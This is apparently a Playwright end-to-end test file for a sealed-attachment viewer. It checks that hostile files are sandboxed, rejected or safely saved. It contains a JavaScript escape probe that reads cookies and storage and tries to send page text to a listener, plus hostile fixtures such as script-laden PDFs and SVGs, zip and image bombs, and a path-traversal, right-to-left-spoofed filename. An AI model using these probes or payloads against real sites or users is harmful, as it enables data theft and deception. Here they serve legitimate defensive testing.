"""What a handler does with attachments in a real browser: play, look, save; and files that were made to do harm."""

from __future__ import annotations

import dataclasses
import re
import secrets
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from e2e.workbench import open_report, reload_list
from factories.attachments import Attached, attached
from fairline.seal.primitives import b64
from support import hostile_files
from support.browsers import axe_violations
from support.calls_home import Home, listening
from support.films import LENGTH, film
from support.hostile_files import png

FILM = film(14 << 20)
LARGE = secrets.token_bytes(5 << 20)
TIME = 15_000
MEDIA = "document.querySelector('dialog iframe')?.contentDocument?.querySelector('video')"
PLAYS = """(address) => new Promise((done) => {
  const video = document.createElement("video");
  video.onloadedmetadata = () => done(true);
  video.onerror = () => done(false);
  video.src = address;
})"""
LEAVING = """async (home) => {
  const tries = {
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    database: () => indexedDB.open("x"),
    parent: () => parent.document.title,
    program: () => new Promise((done, failed) => {
      setTimeout(() => { try { eval("1"); done(); } catch (error) { failed(error); } });
    }),
    window: () => { if (open(home + "/window") === null) throw new Error("no window"); },
    request: () => fetch(home + "/request", { mode: "no-cors" }),
    own: () => fetch("/standing"),
    socket: () => new Promise((done, failed) => {
      const socket = new WebSocket(home.replace("http", "ws")); socket.onopen = done; socket.onerror = failed;
    }),
    call: () => new RTCPeerConnection(),
    worker: () => new Worker(URL.createObjectURL(new Blob(["1"]))),
    picture: () => new Promise((done, failed) => {
      const image = new Image(); image.onload = done; image.onerror = failed; image.src = home + "/picture";
    }),
    markup: () => { document.body.innerHTML = "<b>x</b>"; },
    top: () => { top.location.href = home + "/top"; },
  };
  const done = [];
  for (const [name, act] of Object.entries(tries)) {
    try { await act(); done.push(name); } catch { /* as it must be */ }
  }
  navigator.sendBeacon(home + "/beacon", "x"); // says yes to whatever it then does not send
  location.href = home + "/self?" + document.body.textContent.slice(0, 40);
  return done;
}"""


@pytest.fixture(scope="module")
def home() -> Iterator[Home]:
    """Where the harmful files call."""
    with listening() as found:
        yield found


@pytest.fixture(scope="module")
def files(home: Home) -> dict[str, tuple[bytes, str]]:
    """Each file by its name: what is in it, and of what kind its sender's device says that it is."""
    return {
        "clip.mp4": (FILM, "video/mp4"),
        "photo.png": (png(64, 48), "image/png"),
        "plan.pdf": (hostile_files.pdf_with_script(home.url), "application/pdf"),
        "drawing.svg": (hostile_files.svg_with_script(home.url), "image/svg+xml"),
        "really.png": (hostile_files.page(home.url), "image/png"),
        "moving.gif": (hostile_files.gif_that_is_a_script(home.url), "image/gif"),
        "letter.pdf": (hostile_files.pdf_that_is_a_page(home.url), "application/pdf"),
        "photo.pdf": (png(8, 8), "application/pdf"),
        "huge.png": (hostile_files.image_bomb(), "image/png"),
        "wide.png": (hostile_files.image_too_large(), "image/png"),
        "book.pdf": (hostile_files.pdf_of_pages(40_000), "application/pdf"),
        "locked.pdf": (hostile_files.pdf_that_is_locked(), "application/pdf"),
        "broken.mp4": (hostile_files.film_that_lies(), "video/mp4"),
        "many.zip": (hostile_files.zip_bomb(), "application/zip"),
        "../../in\u202egnp.exe": (LARGE, "application/x-msdownload"),
        "other.png": (png(9, 9), "image/png"),
    }


@pytest.fixture(scope="module")
def sent(files) -> dict[str, Attached]:
    """The same, sealed. `other.png` is named by a hash that is not its own."""
    made = {name: attached(content, name, kind) for name, (content, kind) in files.items()}
    wrong = made["other.png"]
    made["other.png"] = dataclasses.replace(wrong, file=dataclasses.replace(wrong.file, hash=bytes(32)))
    return made


@pytest.fixture(scope="module")
def thread(office_at_work, sent) -> str:
    reporter = office_at_work.reporter()
    named = tuple(reporter.sends(one) for one in sent.values())
    # The server's promise speaks of the files as they came, and a wrong hash makes another leaf.
    with pytest.raises(AssertionError):
        reporter.file({"what": "It is all in the files."}, files=named)
    return reporter.thread_id


@pytest.fixture(scope="module")
def handler(office_at_work, contexts, thread: str) -> Page:
    """A handler who has opened a report with all of these files."""
    page = office_at_work.signed_in(contexts, "bao")
    page.asked = []
    page.on("request", lambda request: page.asked.append(request.url))
    reload_list(page)
    open_report(page, thread)
    return page


@pytest.fixture(autouse=True)
def shut(handler: Page, home: Home) -> Iterator[None]:
    """What one test leaves open is not in the next one's way; and nothing, at any time, has gone elsewhere."""
    yield
    with suppress(Exception):
        handler.unroute_all()
    handler.evaluate("document.querySelectorAll('dialog').forEach((one) => one.close())")
    assert home.asked == []


def row(page: Page, name: str) -> Any:
    return page.locator(".files .file", has=page.locator(".filename", has_text=re.compile(rf"{re.escape(name)}$")))


def stage(page: Page, name: str) -> Any:
    """The dialog in which the file is looked at."""
    row(page, name).get_by_role("button").first.click()
    return page.get_by_role("dialog")


def answering(body: bytes) -> Callable[[Route], None]:
    """What a server does that answers with other bytes than it was given."""

    def answer(route: Route) -> None:
        route.fulfill(body=body)

    return answer


def parts_since(page: Page, before: int) -> set[str]:
    return {one.rsplit("/", 1)[1] for one in page.asked[before:] if "/parts/" in one}


def test_every_file_stands_there_by_a_name_that_is_safe_to_show(handler, files):
    expect(handler.locator(".files .file")).to_have_count(len(files))
    tricked = row(handler, "gnp.exe")
    expect(tricked).to_contain_text("The name was cleaned")
    shown = tricked.locator(".filename").inner_text()
    assert "/" not in shown
    assert "\u202e" not in shown


def test_a_film_plays_by_its_pieces_and_is_never_loaded_whole(handler):
    before = len(handler.asked)
    media = stage(handler, "clip.mp4").frame_locator("iframe").locator("video")
    expect(media).to_be_attached(timeout=TIME)
    handler.wait_for_function(f"() => {MEDIA}?.duration > 0", timeout=TIME)
    assert abs(media.evaluate("v => v.duration") - LENGTH) < 1
    media.evaluate("v => new Promise((done) => { v.onseeked = done; v.currentTime = 18; })")
    assert media.evaluate("v => v.videoWidth") == 64
    # Its beginning, its end and the index, a little of what follows each, and not what lies between.
    assert {"0"} < parts_since(handler, before)
    assert len(parts_since(handler, before)) <= 5
    assert len(FILM) >> 21 >= 7


def test_the_whole_of_a_film_is_called_checked_only_when_it_was_read(handler):
    dialog = stage(handler, "clip.mp4")
    state = dialog.locator(".state")
    expect(state).to_contain_text("the whole is not checked", timeout=TIME)
    dialog.get_by_role("button", name="Check the whole").click()
    expect(state).to_have_text("Checked: it is what was sent.", timeout=TIME)


def test_a_picture_and_a_document_are_shown_without_an_origin(handler):
    for name in ("photo.png", "plan.pdf"):
        dialog = stage(handler, name)
        expect(dialog.frame_locator("iframe").locator("img, canvas").first).to_be_visible(timeout=TIME)
        assert dialog.locator("iframe").get_attribute("sandbox") == "allow-scripts"
        expect(dialog.locator(".state")).to_contain_text("Checked", timeout=TIME)
        handler.keyboard.press("Escape")
        expect(dialog).to_have_count(0)


@pytest.mark.parametrize(
    ("name", "words"),
    [("really.png", "It does not begin as one does"), ("letter.pdf", "It does not begin as one does"),
     ("photo.pdf", "What is inside begins as: picture."), ("moving.gif", "Checked: it is what was sent."),
     ("huge.png", "It could not be shown"), ("wide.png", "more than a hundred million points"),
     ("book.pdf", "The first 500 pages are shown; for the other 39,500, save it."),
     ("locked.pdf", "locked with a password"), ("broken.mp4", "It cannot be played here"),
     ("other.png", "It is not what was sent."), ("drawing.svg", ""), ("many.zip", "")],
)  # fmt: skip
def test_what_is_not_what_it_says_does_nothing_and_is_told_in_words(handler, name, words):
    title = handler.title()
    # What is on no list has no button but the one that saves it.
    assert (row(handler, name).get_by_role("button", name=re.compile("^(View|Play) ")).count() > 0) is bool(words)
    if words:
        expect(stage(handler, name)).to_contain_text(words, timeout=TIME)
    assert handler.title() == title


@pytest.mark.parametrize("name", ["photo.png", "plan.pdf"])
def test_a_program_that_had_taken_over_a_viewer_could_neither_leave_nor_stay(handler, home, name):
    dialog = stage(handler, name)
    expect(dialog.locator(".state")).to_contain_text("Checked", timeout=TIME)
    (frame,) = [one for one in handler.frames if "/viewer/" in one.url]
    assert frame.evaluate(LEAVING, home.url) == []
    handler.wait_for_timeout(300)
    assert handler.url.endswith(handler.evaluate("location.hash"))


def test_a_part_that_the_server_changed_or_swapped_is_named_and_not_shown(handler, sent):
    picture = sent["photo.png"]
    changed = bytearray(picture.parts[0])
    changed[-20] ^= 1
    for answer in (bytes(changed), sent["other.png"].parts[0], picture.parts[0][:-1]):
        handler.route(f"**/blobs/{picture.blob}/parts/0", answering(answer))
        dialog = stage(handler, "photo.png")
        expect(dialog).to_contain_text("changed or cut off after it was sealed", timeout=TIME)
        assert dialog.locator("img, canvas, iframe").count() == 0
        handler.keyboard.press("Escape")
        handler.unroute_all()


def ended(page: Page) -> None:
    """The browser ends its service workers, as it does with idle ones and where memory is short."""
    session = page.context.new_cdp_session(page)
    session.send("ServiceWorker.enable")
    session.send("ServiceWorker.stopAllWorkers")
    session.detach()


def test_a_film_plays_on_after_the_browser_has_ended_the_service_worker(handler):
    media = stage(handler, "clip.mp4").frame_locator("iframe").locator("video")
    expect(media).to_be_attached(timeout=TIME)
    handler.wait_for_function(f"() => {MEDIA}?.duration > 0", timeout=TIME)
    ended(handler)
    media.evaluate("v => new Promise((done, failed) => { v.onseeked = done; v.onerror = failed; v.currentTime = 15; })")
    assert media.evaluate("v => v.error") is None


def test_saving_begins_again_by_itself_when_the_browser_has_ended_the_service_worker(handler, files):
    held: list[Route] = []
    handler.route("**/parts/1", lambda route: held.append(route), times=1)  # noqa: PLW0108 - it marks its handlers
    row(handler, "gnp.exe").get_by_role("button", name=re.compile("^(Save|Stop) ")).click()
    with handler.expect_download(timeout=TIME) as coming:
        handler.get_by_role("dialog").get_by_role("button", name="Save", exact=True).click()
    with handler.expect_download(timeout=TIME) as again:
        ended(handler)
        for route in held:
            route.continue_()
    assert coming.value.failure()
    content = next(content for given, (content, _) in files.items() if given.endswith("gnp.exe"))
    assert again.value.path().read_bytes() == content
    expect(row(handler, "gnp.exe")).to_contain_text("Handed to your browser. Checked: it is what was sent.")


@pytest.mark.parametrize(("name", "risky"), [("gnp.exe", True), ("many.zip", True), ("photo.png", False)])
def test_saving_says_what_it_means_and_saves_what_was_sent(handler, files, name, risky):
    content = next(content for given, (content, _) in files.items() if given.endswith(name))
    row(handler, name).get_by_role("button", name=re.compile("^(Save|Stop) ")).click()
    dialog = handler.get_by_role("dialog")
    expect(dialog).to_contain_text("no longer sealed")
    assert ("connected to nothing" in dialog.inner_text()) is risky
    with handler.expect_download(timeout=TIME) as coming:
        dialog.get_by_role("button", name="Save", exact=True).click()
    assert coming.value.path().read_bytes() == content
    assert "/" not in coming.value.suggested_filename
    expect(row(handler, name)).to_contain_text("Handed to your browser. Checked: it is what was sent.")


def test_a_file_that_is_not_what_was_sent_is_never_saved_as_if_it_were(handler):
    row(handler, "other.png").get_by_role("button", name=re.compile("^(Save|Stop) ")).click()
    handler.get_by_role("dialog").get_by_role("button", name="Save", exact=True).click()
    expect(row(handler, "other.png")).to_contain_text("It is not what was sent.", timeout=TIME)


def test_all_of_it_can_be_done_by_the_keyboard(handler):
    row(handler, "photo.png").get_by_role("button", name="View photo.png").focus()
    handler.keyboard.press("Enter")
    dialog = handler.get_by_role("dialog")
    expect(dialog.locator(".state")).to_contain_text("Checked", timeout=TIME)
    assert axe_violations(handler) == []
    expect(dialog.locator("iframe")).to_be_focused()
    handler.keyboard.press("Escape")
    expect(dialog).to_have_count(0)
    expect(row(handler, "photo.png").get_by_role("button", name="View photo.png")).to_be_focused()


def test_without_a_service_worker_small_files_go_through_memory(office_at_work, contexts, thread, files):
    page = office_at_work.signed_in(contexts, "ilse", service_workers="block")
    open_report(page, thread)
    dialog = stage(page, "clip.mp4")
    page.wait_for_function(f"() => {MEDIA}?.duration > 0", timeout=TIME)
    assert dialog.frame_locator("iframe").locator("video").evaluate("v => v.src").startswith("blob:")
    page.keyboard.press("Escape")
    row(page, "many.zip").get_by_role("button", name=re.compile("^(Save|Stop) ")).click()
    with page.expect_download(timeout=TIME) as coming:
        page.get_by_role("dialog").get_by_role("button", name="Save", exact=True).click()
    assert coming.value.path().read_bytes() == files["many.zip"][0]


def test_a_locked_page_gives_nothing_more_and_nothing_is_kept(handler, office_at_work):
    """The last test at this page: a download that is under way ends as failed, and an open file is gone."""
    row(handler, "gnp.exe").get_by_role("button", name=re.compile("^(Save|Stop) ")).click()
    held: list[Route] = []

    def hold(route: Route) -> None:
        held.append(route)

    handler.route("**/parts/1", hold)
    with handler.expect_download(timeout=TIME) as coming:
        handler.get_by_role("dialog").get_by_role("button", name="Save", exact=True).click()
    stage(handler, "clip.mp4")
    handler.wait_for_function(f"() => {MEDIA}?.duration > 0", timeout=TIME)
    playing = handler.evaluate(f"{MEDIA}.currentSrc")
    # Whoever knows the name that the page has given the file, in this browser, as long as the page has it open.
    beside = handler.context.new_page()
    beside.goto(f"{playing.partition('/play/')[0]}/player")
    assert beside.evaluate(PLAYS, playing)
    handler.keyboard.press("Escape")
    handler.get_by_role("button", name=re.compile("^Lock")).click()
    expect(handler.get_by_role("heading", name="Your keys are locked")).to_be_visible()
    assert coming.value.failure()
    # (Under another query, because what it has played before lies in that other tab's own memory.)
    assert not beside.evaluate(PLAYS, f"{playing}?again")
    assert re.fullmatch(rf".*/at/{b64(office_at_work.office)}/file/play/[\w-]{{22}}", playing)
    kept = handler.evaluate(
        "async () => [(await caches.keys()).length, (await indexedDB.databases()).length, "
        "localStorage.length, sessionStorage.length]"
    )
    assert kept == [0, 0, 0, 0]
    assert [line for line in handler.said if line.startswith("uncaught")] == []
